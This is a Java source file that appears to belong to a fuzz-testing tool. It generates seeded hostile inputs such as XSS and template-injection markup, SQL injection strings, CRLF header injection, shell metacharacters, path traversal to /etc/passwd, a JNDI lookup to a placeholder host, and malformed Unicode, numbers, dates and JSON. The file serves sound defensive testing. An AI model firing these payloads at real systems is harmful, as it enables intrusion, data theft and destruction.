package unknot.attacks;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * What somebody types who wants to break something, the same again for the same seed. Much of it holds {@link FoundPage#TAG}.
 */
final class HostileValues {

    /** What becomes of the two numbers in {@link #MARKUP} where they are worked out. */
    static final String WORKED_OUT = "62615533";

    private static final List<String> MARKUP = List.of("<zqf>", "<script>zqf()</script>", "\"><zqf x=\"", "'><zqf x='", "\" onzqf=\"1", "' onzqf='1", "x onzqf=1", "</textarea><zqf>", "</title><zqf>",
            "</script><zqf>", "--><zqf>", "]]><zqf>", "<svg/onload=zqf()>", "javascript:zqf()", "data:text/html,<zqf>", "&lt;zqf&gt;", "&#60;zqf>", "\\u003czqf\\u003e", "{7919*7907}", "${7919*7907}",
            "#{7919*7907}", "{{7919*7907}}", "{#if true}zqf{/if}", "{#zqf}", "{zqf", "{|zqf|}", "{config:['quarkus.datasource.password']}", "{inject:zqf}", "{! zqf !}", "%{zqf}", "<%= 7919*7907 %>",
            "{#include base}zqf{/include}", "{name}{given-name}{link}{stop}");
    private static final List<String> SQL = List.of("' OR '1'='1", "1; DROP TABLE client -- zqf", "') UNION SELECT password_hash FROM account -- ", "\\", "\\'", "%", "_", "%%%%", "zqf\\%_", "0x41", "NULL", "' AND SLEEP(5) -- ",
            "zqf`;--", "*/ zqf /*", "' OR 1=1 LIMIT 1 OFFSET 1 #");
    private static final List<String> LINES = List.of("zqf\r\nBcc: zqf@zqf.example", "zqf\r\n\r\n<zqf>", "zqf\nSet-Cookie: zqf=1", "a\rb", "\r\n", "\n\n\n", "=zqf()", "+zqf", "-zqf|cmd", "@SUM(zqf)", "\t=zqf", "|zqf;&&$(zqf)`zqf`",
            "../../../../etc/passwd", "..\\..\\zqf", "file:///etc/passwd", "http://zqf.example/", "//zqf.example", "${jndi:ldap://zqf.example/a}", "%0d%0azqf:1", "zqf@zqf.example\r\nCc:a@b.example");
    private static final List<String> CHARACTERS = List.of("\0", "zqf\0zqf", "\u0001\u0007\u001b[31mzqf", "\u007f\u0085", "\u200b", "\u200e\u200f\u202ezqf\u202c", "\u2028\u2029", "\ufeffzqf", "\ufffe\uffff", "\ud83e\uddd1\u200d\ud83e\uddaf\u200d\u27a1\ufe0f",
            "\ud83c\uddec\ud83c\udde7\ud83d\udc4d\ud83c\udfff", "Z\u0363\u0363\u0363\u0363\u0363\u0363\u0363\u0363\u0363\u0363\u0363\u0363q\u0336f", "\u0130\u0131\u00df\u1e9e\ufb03", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "\u6f22\u5b57\u30ab\u30bf\u30ab\u30ca",
            "\ud83d", "\ude00zqf", "\udbff\udfff", "\u00a0", "   ", "\t", "\u3000", "\u0661\u0662\u0663", "\uff11\uff12", "\u0967\u0968", "\ufdfa\ufdfa\ufdfa");
    private static final List<String> NUMBERS = List.of("0", "-0", "-1", "1", "2", "10", "11", "99", "999999", "2147483647", "2147483648", "-2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
            "99999999999999999999999999", "1e400", "1e-400", "1E9", "1.5", "1,5", ".5", "5.", "-0.0", "0.1", "00000000000000000001", "+5", "NaN", "Infinity", "-Infinity", "0x1F", "1_000", "1L", "5f", "null", "true", "1e99999999", "0.33333333333333333333333333333333",
            "1000000000000.99", "12345678901234567890.123");
    private static final List<String> TIMES = List.of("2027-02-29", "2027-13-01", "2027-00-00", "0000-00-00", "0000-01-01", "0001-01-01", "-0001-01-01", "-999999999-01-01", "+999999999-12-31", "9999-12-31", "10000-01-01", "1582-10-10", "1900-01-01",
            "2027-1-1", "27-01-01", "2027-03-28", "2027-03-28T01:30", "2027-10-31", "2027-01-12T09:00:00Z", "2027-01-12", "01/02/2027", "2027-W02-1", "2027-01-11", "2026-12-31", "2038-01-20", "2106-02-08", "24:00", "25:00", "23:59:60", "09:00", "9:00", "09:00:00.000000001", "00:00",
            "01:30", "-01:00", "09:60", "2027-10-31T01:30:00+01:00", "+1000000000-01-01T00:00:00Z", "2027-01-12T09:00:00+18:00", "2027-01-12T09:00:00+19:00", "P1D", "PT-1H", "P999999999Y", "2027-01", "2027-99", "0000-00", "-999999999-01", "999999999-12");

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    boolean once(int in) {
        return random.nextInt(in) == 0;
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    /** Any kind of text. */
    String text() {
        return switch (random.nextInt(12)) {
            case 0, 1, 2 -> one(MARKUP);
            case 3 -> one(SQL);
            case 4 -> one(LINES);
            case 5, 6 -> one(CHARACTERS);
            case 7 -> one(NUMBERS);
            case 8 -> one(TIMES);
            case 9 -> one(one(List.of(MARKUP, CHARACTERS, SQL))) + one(one(List.of(MARKUP, LINES, CHARACTERS)));
            case 10 -> longText();
            default -> "";
        };
    }

    /** What hurts most where such a value stood before. */
    String instead(String before) {
        if (before != null && before.matches("-?\\d+([.,]\\d+)?") && !once(3)) {
            return one(NUMBERS);
        }
        if (before != null && before.matches("\\d[\\d:TZ.+-]+") && !once(3)) {
            return one(TIMES);
        }
        return once(6) && before != null ? before + text() : text();
    }

    String number() {
        return one(NUMBERS);
    }

    private String longText() {
        String piece = one(List.of("a", "zqf ", "\ud83d\ude00", "<zqf>", "\u0301", "9", "\r\n", "{", "(", " ", "&", "\u202e", "\\", "%"));
        return piece.repeat(one(List.of(50, 101, 191, 256, 501, 1001, 2001, 5000, 16_001, 70_000)) / piece.length());
    }

    /** As a form or an address carries it; sometimes bytes that are no text, or no encoding at all. */
    String encoded(String text) {
        return once(25) ? one(List.of("%ED%A0%80", "%C3%28", "%FF%FE", "%C0%80", "%F5%80%80%80", "zqf%00", "%E2%80")) : URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    /** As JSON: of any type, and sometimes not quite JSON. */
    String json() {
        return switch (random.nextInt(14)) {
            case 0, 1, 2, 3 -> quoted(text());
            case 4, 5 -> one(List.of("0", "-1", "1", "999999", "2147483648", "9223372036854775808", "1e400", "1.5", "-0.0", "1e-400", "99999999999999999999999999999999999999"));
            case 6 -> one(List.of("NaN", "Infinity", "+1", "01", "0x1", "'zqf'", "undefined", "zqf", "\"\\x\"", "\"\n\"", "\"\\ud800\"", "\"\\udc00zqf\"", "\"\\u0000\""));
            case 7 -> one(List.of("null", "true", "false"));
            case 8 -> "[" + quoted(text()) + "]";
            case 9 -> "{" + quoted(text()) + ":" + quoted(text()) + "}";
            case 10 -> one(List.of("[]", "{}", "[[]]", "[null]", "[{}]", "{\"\":{}}"));
            case 11 -> "[".repeat(20_000) + "]".repeat(20_000);
            case 12 -> "{\"a\":".repeat(3000) + "1" + "}".repeat(3000);
            default -> quoted(one(TIMES));
        };
    }

    static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char character : text.toCharArray()) {
            if (character < ' ' || character == '"' || character == '\\' || Character.isSurrogate(character)) {
                json.append("\\u%04x".formatted((int) character));
            } else {
                json.append(character);
            }
        }
        return json.append('"').toString();
    }
}
